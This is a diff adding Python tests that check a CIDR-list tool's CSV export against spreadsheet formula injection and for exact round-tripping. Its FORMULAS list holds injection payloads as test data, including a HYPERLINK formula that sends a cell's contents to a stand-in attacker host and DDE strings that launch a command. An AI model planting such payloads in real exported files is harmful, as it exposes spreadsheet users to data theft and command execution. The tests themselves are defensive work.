@@ -2,14 +2,103 @@
 
 from __future__ import annotations
 
-import pytest
+import csv
+import io
+from datetime import UTC, datetime
 
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from cidrgate import Entry
+from cidrgate.accounts import could_name_account
 from cidrgate.cli.errors import CommandError
-from cidrgate.cli.list_files import ListFormat, Row, read_rows
+from cidrgate.cli.list_files import ListFormat, Row, read_rows, written
+
+RUN = "=+-@|%\uff1d\uff0b\uff0d\uff20"
+"""What a formula begins with, or a call of another program."""
+AWKWARD = st.sampled_from([*RUN, *"'\" \t\r\n;,ab1", "\ufeff", "\u200b", "\u3000", "\x0b"])
+TEXTS = st.text(AWKWARD | st.characters(exclude_categories=["Cs"]), max_size=12)
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example?x="&A1)',
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "|cmd",
+    "%0A-3+3+cmd|' /C calc'!D2",
+    "\t=1+1",
+    "\r=1+1",
+    "\n=1+1",
+    "  =1+1",
+    "\u00a0=1+1",
+    "'=1+1",
+    '"=1+1',
+    '"\'" =1+1',
+    "\ufeff=1+1",
+    "\uff1d1+1",
+    "office;=1+1",
+    "office;' =1+1",
+    "office\t=1+1",
+    "office\n=1+1",
+    "office\r\n@SUM(1)",
+    "a|=1",
+]
 
 
 def rows(text: str, form: ListFormat) -> list[Row]:
     return list(read_rows(text.splitlines(keepends=True), form))
+
+
+def exported(account: str, label: str | None, form: ListFormat = ListFormat.CSV) -> str:
+    entry = Entry(1, account, "8.8.8.0/24", label, datetime(2025, 1, 2, tzinfo=UTC), None)
+    return "".join(written([[entry]], form))
+
+
+@pytest.mark.parametrize("form", list(ListFormat))
+@given(account=TEXTS.filter(could_name_account), label=st.none() | TEXTS)
+def test_what_is_written_is_read_back_exactly(form: ListFormat, account: str, label: str | None) -> None:
+    """Whatever an earlier version stored."""
+    [row] = read_rows(io.StringIO(exported(account, label, form), newline=""), form)
+    assert (row.account, row.cidr, row.label, row.problem) == (account, "8.8.8.0/24", label, "")
+
+
+def begins_as_formula(cell: str) -> bool:
+    return cell.lstrip(' \t\r\n\x0b\x0c\u00a0\u3000\ufeff\u200b"').startswith(tuple(RUN))
+
+
+def assert_not_run(text: str) -> None:
+    """No cell begins as a formula, whichever character a spreadsheet takes for what separates cells."""
+    for separator in ",;\t|":
+        for row in csv.reader(text.splitlines(), delimiter=separator):
+            assert not any(map(begins_as_formula, row))
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+def test_a_spreadsheet_runs_no_cell(formula: str) -> None:
+    text = exported("acct-1", formula)
+    [_, *rows_of_file] = csv.reader(text.splitlines(keepends=True))
+    assert rows_of_file[0][2] != formula
+    assert not any(map(begins_as_formula, rows_of_file[0]))
+    assert_not_run(text)
+    [row] = read_rows(text.splitlines(keepends=True), ListFormat.CSV)
+    assert row.label == formula
+    if could_name_account(formula):
+        assert_not_run(exported(formula, None))
+
+
+@given(account=TEXTS.filter(could_name_account), label=TEXTS)
+def test_a_spreadsheet_runs_nothing_whatever_the_separator(account: str, label: str) -> None:
+    assert_not_run(exported(account, label))
+
+
+def test_a_file_by_hand_is_read_as_it_is() -> None:
+    text = "account,cidr,label\n-a,8.8.8.0/24,=1+1\n'tis,8.8.8.0/24,'quoted'\no'brien,8.8.8.0/24,a - b\n"
+    assert [(row.account, row.label) for row in rows(text, ListFormat.CSV)] == [
+        ("-a", "=1+1"),
+        ("'tis", "'quoted'"),
+        ("o'brien", "a - b"),
+    ]
 
 
 def test_a_row_over_several_lines_has_the_number_of_its_first() -> None:
